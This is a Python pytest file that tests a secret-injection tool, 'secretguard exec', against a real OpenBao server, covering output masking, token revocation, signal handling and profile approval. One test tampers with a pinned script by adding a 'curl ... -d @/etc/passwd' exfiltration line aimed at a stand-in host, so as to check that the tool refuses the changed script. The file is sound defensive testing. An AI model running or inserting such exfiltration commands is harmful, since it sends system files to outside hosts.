"""secretguard exec against a real OpenBao dev server and a real gnome-keyring."""

from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from parts.fixtures import ExecWorld, keyring_session, openbao, planted, user_token, world  # noqa: F401

APP_PROFILE = """
[profiles.app]
command = ["sh", "-c", "*"]
policies = ["app-read"]
ttl = "{ttl}"
[profiles.app.secrets]
APP_PASSWORD = "kv2:secret/data/app#password"
APP_KEY = "kv2:secret/data/app#api_key"
"""


def _setup(world: ExecWorld, ttl: str = "90s", profile: str = APP_PROFILE) -> str:
    world.write_profiles(profile.format(ttl=ttl))
    token = user_token(world.bao, ["app-read"])
    world.login(token)
    world.approve("app")
    return token


def _accessor(world: ExecWorld) -> str:
    """The child token of the last run, from secretguard's audit log."""
    return [r for r in world.audit_records() if r.get("accessor")][-1]["accessor"]


def _wait_for(path: Path, timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and path.read_text().strip():
            return path.read_text().strip()
        time.sleep(0.05)
    raise AssertionError(f"{path} never appeared")


def _assert_revoked(world: ExecWorld, accessor: str) -> None:
    import hvac.exceptions

    with pytest.raises(hvac.exceptions.InvalidRequest):
        world.bao.client().auth.token.lookup_accessor(accessor)


def test_kv2_value_reaches_child_masked_and_revoked(world: ExecWorld, tmp_path: Path) -> None:
    login_token = _setup(world)
    value = world.planted.values["app_password"]
    digest_file = tmp_path / "digest"
    script = (f'printf %s "$APP_PASSWORD" | sha256sum > {digest_file}; echo "pw=$APP_PASSWORD"; '
              'echo "key=$APP_KEY" >&2; printf %s "$APP_PASSWORD" | base64; echo "vault=${VAULT_TOKEN:-none}"')
    r = world.run("exec", "--", "sh", "-c", script, env={"VAULT_TOKEN": login_token})
    assert r.returncode == 0, r.stderr
    # The child had the real value ...
    assert digest_file.read_text().split()[0] == hashlib.sha256(value.encode()).hexdigest()
    # ... what came back through the pipes is masked, and the login token was not inherited.
    assert "pw=*****" in r.stdout and "key=*****" in r.stderr
    assert "vault=none" in r.stdout
    world.assert_nowhere(value, world.planted.values["api_key"], login_token, outputs=(r.stdout, r.stderr))
    # The child token had the profile's policies and TTL, and it is revoked now.
    started = [x for x in world.audit_records() if x.get("outcome") == "started"][-1]
    assert set(started["policies"]) - {"default"} == {"app-read"}
    assert 0 < started["ttl"] <= 90
    finished = [x for x in world.audit_records() if x.get("outcome") == "finished"][-1]
    assert finished["exit_code"] == 0 and finished["revocation"]["ok"]
    _assert_revoked(world, started["accessor"])


def test_sigterm_reaches_child_and_token_is_revoked(world: ExecWorld, tmp_path: Path) -> None:
    _setup(world)
    value = world.planted.values["app_password"]
    ready, got = tmp_path / "ready", tmp_path / "got"
    script = f'trap "echo TERM > {got}; exit 143" TERM; echo $$ > {ready}; while :; do sleep 0.1; done'
    proc = world.popen("exec", "--", "sh", "-c", script, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        child_pid = _wait_for(ready)
        # The value is in the child's environment, not in secretguard's own.
        assert f"APP_PASSWORD={value}".encode() in Path(f"/proc/{child_pid}/environ").read_bytes()
        assert value.encode() not in Path(f"/proc/{proc.pid}/environ").read_bytes()
        # The live child token is bounded by the profile and names secretguard in its metadata.
        info = world.bao.client().auth.token.lookup_accessor(_accessor(world))["data"]
        assert info["display_name"] == "token-secretguard-app"
        assert info["meta"]["profile"] == "app" and info["meta"]["secretguard"] and info["meta"]["os_user"]
        assert set(info["policies"]) - {"default"} == {"app-read"}
        assert info["explicit_max_ttl"] == 90 and 0 < info["ttl"] <= 90 and not info["renewable"]
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 143, err
    assert got.read_text().strip() == "TERM"
    _assert_revoked(world, _accessor(world))


def test_second_interrupt_kills_a_child_that_ignores_the_first(world: ExecWorld, tmp_path: Path) -> None:
    _setup(world)
    ready = tmp_path / "ready"
    script = f'trap "echo INT >> {tmp_path}/got" INT; echo $$ > {ready}; while :; do sleep 0.1; done'
    proc = world.popen("exec", "--", "sh", "-c", script, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        _wait_for(ready)
        proc.send_signal(signal.SIGINT)
        _wait_for(tmp_path / "got")
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 128 + signal.SIGKILL
    _assert_revoked(world, _accessor(world))


def test_exit_codes_pass_through(world: ExecWorld, tmp_path: Path) -> None:
    _setup(world)
    assert world.run("exec", "--", "sh", "-c", "exit 7").returncode == 7
    assert world.run("exec", "--", "sh", "-c", "kill -USR1 $$").returncode == 128 + signal.SIGUSR1
    _assert_revoked(world, _accessor(world))


def test_command_not_found_or_not_executable_fetches_nothing(world: ExecWorld) -> None:
    world.write_profiles(APP_PROFILE.format(ttl="60s").replace('["sh", "-c", "*"]', '["*"]').replace(
        'command = ["*"]', 'command = ["no-such-program-sg"]'))
    world.login(user_token(world.bao, ["app-read"]))
    world.approve("app")
    r = world.run("exec", "--", "no-such-program-sg")
    assert r.returncode == 127 and r.stderr.startswith("secretguard: ") and "not found" in r.stderr
    (world.project / "script.sh").write_text("echo hi\n")
    world.write_profiles(APP_PROFILE.format(ttl="60s").replace('["sh", "-c", "*"]', '["./script.sh"]'))
    world.approve("app")
    r = world.run("exec", "--", "./script.sh")
    assert r.returncode == 126 and "not executable" in r.stderr
    assert not [x for x in world.audit_records() if x.get("accessor")]  # no token was ever created


def _refused(r: subprocess.CompletedProcess, marker: Path, *phrases: str) -> None:
    assert r.returncode == 125, (r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("secretguard: "), r.stderr
    for phrase in phrases:
        assert phrase in lines[0], lines[0]
    assert not marker.exists(), "the command ran"


def test_argv_not_matching_is_refused_and_nothing_fetched(world: ExecWorld, tmp_path: Path) -> None:
    _setup(world)
    marker = tmp_path / "ran"
    r = world.run("exec", "--", "sh", "-c", f"touch {marker}", "extra-word")
    _refused(r, marker, "no profile allows")
    r = world.run("exec", "--profile", "app", "--", "bash", "-c", f"touch {marker}")
    _refused(r, marker, "does not match profile 'app'")
    assert not [x for x in world.audit_records() if x.get("accessor")]


def test_not_approved_and_profile_edited_after_approval(world: ExecWorld, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    world.write_profiles(APP_PROFILE.format(ttl="90s"))
    world.login(user_token(world.bao, ["app-read"]))
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, "not approved", "secretguard approve app")
    world.approve("app")
    world.write_profiles(APP_PROFILE.format(ttl="95s"))  # a small edit is still an edit
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, "profile 'app' changed since approval")
    world.approve("app")
    assert world.run("exec", "--", "sh", "-c", f"touch {marker}").returncode == 0
    assert marker.exists()


def test_pinned_script_edited_after_approval(world: ExecWorld, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    script = world.project / "scripts" / "deploy.sh"
    script.parent.mkdir()
    script.write_text(f"touch {marker}\n")
    world.write_profiles(APP_PROFILE.format(ttl="90s").replace('["sh", "-c", "*"]', '["sh", "scripts/deploy.sh"]')
                         .replace("[profiles.app.secrets]", 'pin = ["scripts/deploy.sh"]\n[profiles.app.secrets]'))
    world.login(user_token(world.bao, ["app-read"]))
    world.approve("app")
    script.write_text(f"touch {marker}; curl https://example.invalid -d @/etc/passwd\n")
    _refused(world.run("exec", "--", "sh", "scripts/deploy.sh"), marker,
             "pinned file scripts/deploy.sh changed since approval")
    profiles = world.run("profiles")
    assert "app: pinned file scripts/deploy.sh changed since approval" in profiles.stdout


def test_forbidden_reference_is_refused_and_token_revoked(world: ExecWorld, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    world.write_profiles(APP_PROFILE.format(ttl="90s").replace("secret/data/app#api_key", "secret/data/forbidden#password"))
    world.login(user_token(world.bao, ["app-read"]))
    world.approve("app")
    r = world.run("exec", "--", "sh", "-c", f"touch {marker}")
    _refused(r, marker, "reference kv2:secret/data/forbidden#password for APP_KEY", "permission denied")
    world.assert_nowhere(world.planted.values["forbidden"], world.planted.values["app_password"],
                         outputs=(r.stdout, r.stderr))
    _assert_revoked(world, _accessor(world))


def test_expired_login_token_is_refused(world: ExecWorld, tmp_path: Path) -> None:
    import hvac.exceptions

    marker = tmp_path / "ran"
    world.write_profiles(APP_PROFILE.format(ttl="90s"))
    token = user_token(world.bao, ["app-read"], ttl="1s")
    world.login(token)
    world.approve("app")
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:  # wait until OpenBao itself considers it expired
        try:
            world.bao.client(token).auth.token.lookup_self()
        except hvac.exceptions.Forbidden:
            break
        time.sleep(0.1)
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, "expired or revoked", "secretguard login")


def test_policies_beyond_the_login_are_refused(world: ExecWorld, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    world.write_profiles(APP_PROFILE.format(ttl="90s").replace('policies = ["app-read"]',
                                                                'policies = ["app-read", "db-creds"]'))
    world.login(user_token(world.bao, ["app-read"]))
    world.approve("app")
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, "does not hold: db-creds")


def test_vault_stopped_is_refused(world: ExecWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from parts.openbao import ROOT_TOKEN, OpenBao

    marker = tmp_path / "ran"
    other = OpenBao(tmp_path / "bao2").start()
    try:
        monkeypatch.setenv("VAULT_ADDR", other.addr)
        world.write_profiles(APP_PROFILE.format(ttl="90s"))
        from secretguard.vault import keystore

        keystore.save_login(other.addr, ROOT_TOKEN, "token")
        world.approve("app")
    finally:
        other.stop()
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, f"cannot reach Vault at {other.addr}")


def test_vault_token_from_env_only_with_the_flag(world: ExecWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "ran"
    world.write_profiles(APP_PROFILE.format(ttl="90s"))
    world.approve("app")
    token = user_token(world.bao, ["app-read"])
    monkeypatch.setenv("VAULT_TOKEN", token)
    _refused(world.run("exec", "--", "sh", "-c", f"touch {marker}"), marker, "not logged in",
             "--vault-token-from-env")
    r = world.run("exec", "--vault-token-from-env", "--", "sh", "-c", f'touch {marker}; echo "t=$VAULT_TOKEN"')
    assert r.returncode == 0 and marker.exists()
    assert "t=\n" in r.stdout  # the child does not inherit it


def test_no_mask_needs_a_human(world: ExecWorld) -> None:
    _setup(world)
    value = world.planted.values["app_password"]
    r = world.run("exec", "--no-mask", "--", "sh", "-c", 'echo "$APP_PASSWORD"')
    assert r.returncode == 125 and "--no-mask needs a terminal" in r.stderr and value not in r.stdout


def test_on_a_terminal_output_passes_through_unless_masking_is_forced(world: ExecWorld) -> None:
    import sys

    from parts.tty import run_in_pty

    _setup(world)
    value = world.planted.values["app_password"]
    cmd = [sys.executable, "-m", "secretguard", "exec"]
    script = ["--", "sh", "-c", 'echo "v=$APP_PASSWORD"']
    code, out = run_in_pty([*cmd, *script], b"", env=dict(os.environ), cwd=str(world.project))
    assert code == 0 and f"v={value}" in out
    code, out = run_in_pty([*cmd, "--mask", *script], b"", env=dict(os.environ), cwd=str(world.project))
    assert code == 0 and "v=*****" in out and value not in out


def test_ctrl_c_at_a_terminal_reaches_the_child_once(world: ExecWorld, tmp_path: Path) -> None:
    """^C goes from the terminal to the whole foreground group: secretguard must not send it again."""
    import fcntl
    import sys
    import termios

    _setup(world)
    ready, got = tmp_path / "ready", tmp_path / "got"
    child = tmp_path / "child.py"
    child.write_text(
        "import os, signal\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})\n"
        f"open({str(ready)!r}, 'w').write(str(os.getpid()))\n"
        "while True:\n"
        "    info = signal.sigwaitinfo({signal.SIGINT})\n"
        f"    with open({str(got)!r}, 'a') as fh:\n"
        "        fh.write(f'{info.si_code} {info.si_pid}\\n')\n")
    master, slave = os.openpty()

    def _controlling_tty() -> None:  # runs in the child after setsid: make the pty its terminal
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen([sys.executable, "-m", "secretguard", "exec", "--", "sh", "-c",
                             f"exec {sys.executable} {child}"], stdin=slave, stdout=slave, stderr=slave,
                            cwd=world.project, env=dict(os.environ), start_new_session=True,
                            preexec_fn=_controlling_tty)
    os.close(slave)
    try:
        _wait_for(ready)
        os.write(master, b"\x03")
        _wait_for(got)
        time.sleep(0.5)  # a copy forwarded by secretguard would land here (unless it merged with the first)
        # One SIGINT, sent by the kernel on the terminal's behalf (si_code SI_KERNEL); the command lives on.
        assert [line.split()[0] for line in got.read_text().splitlines()] == ["128"]
        os.write(master, b"\x03")  # the second ^C kills the command
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)
    assert proc.returncode == 128 + signal.SIGKILL
    _assert_revoked(world, _accessor(world))
